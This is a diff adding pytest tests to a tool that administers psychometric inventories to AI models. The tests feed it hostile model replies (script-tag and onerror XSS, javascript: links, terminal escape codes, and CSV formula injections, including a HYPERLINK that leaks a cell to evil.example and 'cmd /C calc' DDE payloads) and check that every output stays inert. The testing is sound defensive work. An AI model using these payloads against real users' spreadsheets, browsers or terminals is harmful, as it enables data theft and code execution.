@@ -224,3 +224,158 @@ def test_real_process_has_no_traceback_for_a_yaml_bomb():
     assert result.returncode == 2 and result.stdout == ""
     assert result.stderr == f"psytest: error: {path}: its aliases expand to more than 1,000,000 values; " \
                             "write the values out instead of nesting aliases\n"
+
+
+# -- model replies with markup are inert in every output --------------------------------------------
+
+CHROMIUM = Path("/usr/bin/chromium")
+HOSTILE_REPLIES = (
+    "<script>document.title='pwned'</script>",
+    "<img src=x onerror=\"document.title='pwned'\">",
+    "<a href=\"javascript:document.title='pwned'\">3</a>",
+    "[bold red]3[/bold red] [link=https://evil.example]x[/link] [/nothing]",
+    "\x1b[31m4\x1b[0m\x1b]0;pwned-title\x07",
+    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"5\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+)
+# A directory name that is rich markup (an unmatched closing tag makes rich raise) and HTML
+MARKUP_DIR = ("[bold]", "[/bold][/red]<img src=x onerror=alert(1)>")
+
+
+class HostileReplies:
+    """A backend whose replies cycle through HOSTILE_REPLIES, each used equally often."""
+
+    def __new__(cls):
+        from psychometrics.models.base import ModelBackend, ModelReply
+
+        class _Backend(ModelBackend):
+            name = "hostile/replies"
+
+            def __init__(self):
+                self.count = 0
+
+            async def complete(self, request):
+                self.count += 1
+                return ModelReply(text=HOSTILE_REPLIES[self.count % len(HOSTILE_REPLIES)], input_tokens=1,
+                                  output_tokens=1)
+
+        return _Backend()
+
+
+@pytest.fixture(scope="module")
+def hostile_runs(tmp_path_factory):
+    """Two runs through the command line against a loopback server that sends HOSTILE_REPLIES."""
+    from psychometrics.testing.openai_server import start_server
+
+    root = tmp_path_factory.mktemp("markup")
+    runs = [root.joinpath(*MARKUP_DIR, f"run{i}") for i in (1, 2)]
+    outputs = []
+    with start_server(HostileReplies()) as server:
+        for seed, run in enumerate(runs):
+            result = subprocess.run(
+                [sys.executable, "-m", "psychometrics", "administer", "--model", "openai/hostile", "--api-base",
+                 server.base_url, "-i", "mini-ipip", "--samples", "2", "--temperature", "1", "--seed", str(seed),
+                 "--out", str(run)],
+                capture_output=True, timeout=600, env={**__import__("os").environ, "FORCE_COLOR": "1",
+                                                       "OPENAI_API_KEY": "none"})
+            assert result.returncode == 0, result.stderr.decode()
+            outputs.append(result)
+    for command in (["score", str(runs[0])], ["report", str(runs[0])],
+                    ["compare", str(runs[0]), str(runs[1]), "--out", str(root / "compare")]):
+        result = subprocess.run([sys.executable, "-m", "psychometrics", *command], capture_output=True,
+                                timeout=600, env={**__import__("os").environ, "FORCE_COLOR": "1"})
+        assert result.returncode == 0, result.stderr.decode()
+        outputs.append(result)
+    return root, runs, outputs
+
+
+def test_terminal_output_never_renders_reply_markup_or_escapes(hostile_runs):
+    _, runs, outputs = hostile_runs
+    text = b"".join(r.stdout + r.stderr for r in outputs)
+    for reply in HOSTILE_REPLIES:
+        assert reply.encode() not in text
+    assert b"\x1b]0;" not in text and b"pwned" not in text and b"evil.example" not in text
+    # the directory name, which is rich markup, is printed as it is (rich would raise on "[/red]")
+    plain = text.decode("utf-8", "replace")
+    assert "[bold]/[/bold][/red]<img src=x onerror=alert(1)>/run1" in plain
+
+
+def test_every_reply_is_stored_exactly(hostile_runs):
+    import sqlite3
+
+    _, runs, _ = hostile_runs
+    with sqlite3.connect(runs[0] / "responses.sqlite") as db:
+        stored = [row[0] for row in db.execute("SELECT raw_reply FROM responses")]
+    assert len(stored) == 40 and set(stored) == set(HOSTILE_REPLIES)
+
+
+def test_csvs_neutralise_formulas_and_escapes_but_keep_numbers(hostile_runs):
+    import pandas as pd
+
+    _, runs, _ = hostile_runs
+    report = runs[0] / "report"
+    responses = pd.read_csv(report / "responses.csv", keep_default_na=False)
+    shown = set(responses["raw_reply"])
+    assert "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"5\")" in shown
+    assert {"'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'\t=1+1"} <= shown
+    assert "\\x1b[31m4\\x1b[0m\\x1b]0;pwned-title\\x07" in shown
+    assert HOSTILE_REPLIES[0] in shown  # HTML is harmless in a CSV and kept as it is
+    for path in [*report.glob("*.csv"), *(runs[0] / "analysis").glob("*.csv")]:
+        raw = path.read_bytes()
+        assert b"\x1b" not in raw and b"\x07" not in raw, path
+        frame = pd.read_csv(path, keep_default_na=False, dtype=str)
+        for column in frame.columns:
+            bad = [v for v in frame[column] if v[:1] in ("=", "+", "@", "\t", "\r") or
+                   (v.startswith("-") and not _is_number(v))]
+            assert not bad, (path.name, column, bad[:3])
+    assert pd.api.types.is_numeric_dtype(pd.read_csv(report / "responses.csv")["value"])
+    assert pd.api.types.is_numeric_dtype(pd.read_csv(report / "score_summary.csv")["mean"])
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_report_html_shows_replies_only_as_text(hostile_runs):
+    import re
+
+    _, runs, _ = hostile_runs
+    html = (runs[0] / "report" / "report.html").read_text(encoding="utf-8")
+    assert not re.search(r"<script|<[^>]*\son\w+\s*=|<[^>]*javascript:", html, re.I)
+    assert all(re.fullmatch(r'<a href="#\w+">', tag) for tag in re.findall(r"<a\b[^>]*>", html))  # the page's own
+    assert "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;" in html
+    assert "&lt;a href=&#34;javascript:document.title=&#39;pwned&#39;&#34;&gt;3&lt;/a&gt;" in html
+    assert "[bold red]3[/bold red]" in html
+
+
+def test_compare_outputs_escape_hostile_run_names(hostile_runs):
+    import re
+
+    root, _, _ = hostile_runs
+    page = (root / "compare" / "compare.html").read_text(encoding="utf-8")
+    assert not re.search(r"<img|<script|<[^>]*\son\w+\s*=", page, re.I)
+    assert "[/bold][/red]&lt;img src=x onerror=alert(1)&gt;" in page
+    assert (root / "compare" / "differences.csv").is_file()
+
+
+def test_chromium_runs_nothing_from_the_report_or_the_comparison(hostile_runs, tmp_path):
+    if not CHROMIUM.exists():
+        pytest.skip("needs /usr/bin/chromium (Debian's chromium package)")
+    import re
+
+    root, runs, _ = hostile_runs
+    for page, title in ((runs[0] / "report" / "report.html", "psytest report: openai/hostile"),
+                        (root / "compare" / "compare.html", "psytest comparison")):
+        dom = subprocess.run(
+            [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
+             "--disable-background-networking", f"--user-data-dir={tmp_path / page.stem}", "--dump-dom",
+             page.resolve().as_uri()], capture_output=True, text=True, timeout=90, check=True).stdout
+        assert re.search(r"<title>(.*?)</title>", dom, re.S).group(1) == title
+        assert "<script" not in dom and "<img src=\"x\"" not in dom and "pwned" not in title
